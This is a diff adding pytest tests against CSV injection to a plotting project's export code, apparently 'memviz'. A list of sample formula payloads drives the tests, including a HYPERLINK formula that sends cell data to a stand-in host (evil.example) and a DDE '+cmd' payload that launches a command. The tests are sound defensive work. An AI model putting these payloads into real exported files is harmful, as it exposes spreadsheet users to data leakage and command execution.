@@ -10,6 +10,7 @@ import subprocess
 import sys
 import xml.etree.ElementTree as ET
 import zipfile
+from pathlib import Path
 
 import plotly.graph_objects as go
 import pytest
@@ -229,3 +230,55 @@ def test_a_figure_offered_for_export_only_is_built_on_the_first_file_once_in_its
     export.render(fig, "csv")
     assert built == ["zh"] and title in svg
     assert export.resolve(fig) is fig.figure and export.resolve(svg) is svg
+
+
+# ------------------------------------------------------------------ issue 31: CSV injection
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"]
+
+
+def _runnable(cell: str) -> bool:
+    """What a spreadsheet would run: a formula character first, and not a plain number."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_figure_csv_never_starts_a_cell_with_a_formula(name):
+    fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[-1.5, 0.25, -2e-05], name=name))
+    fig.update_layout(xaxis_title=name, yaxis_title="value")
+    rows = list(csv.reader(io.StringIO(export.render(fig, "csv").decode(), newline="")))
+    cells = [c for row in rows for c in row]
+    assert not any(_runnable(c) for c in cells), cells
+    assert rows[0][1] == "'" + name  # the header too (the x axis' title), shown as text
+    assert rows[1][0] == "'" + name  # the series' name
+    assert [float(r[2]) for r in rows[1:]] == [-1.5, 0.25, -2e-05]  # numbers stay numbers
+
+
+def test_numbers_and_plain_text_pass_through_the_csv_writer_unchanged():
+    text = export.csv_text(["a", "b"], [[-1.5, "-1.5"], ["+3", "-2e-05"], ["x-y", "-inf"]])
+    assert text == "a,b\n-1.5,-1.5\n+3,-2e-05\nx-y,-inf\n"
+
+
+def test_every_csv_the_app_writes_goes_through_the_one_writer():
+    # csv.writer / DictWriter / to_csv anywhere else would bypass the neutralising
+    root = Path(export.__file__).parent
+    found = [str(p.relative_to(root)) for p in root.rglob("*.py") if p.name != "export.py"
+             and any(w in p.read_text() for w in ("csv.writer(", "csv.DictWriter(", ".to_csv("))]
+    assert found == []
+
+
+def test_command_line_csv_files_neutralise_formulas():
+    from memviz.horizon.report import results_csv
+    from memviz.horizon.sweep import Result
+    from memviz.text.cellfinder import Best, table_csv
+
+    result = Result("=1+2", "@recall", 5, 0, "accuracy", -0.5, 1.0, 10, False)
+    for text in (results_csv([result]), table_csv([Best("in_comment", "-cmd", 3, -0.5)])):
+        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+        assert not any(_runnable(c) for c in cells), cells
+        assert "-0.5" in cells or "-0.5000" in cells  # a negative number is still a number
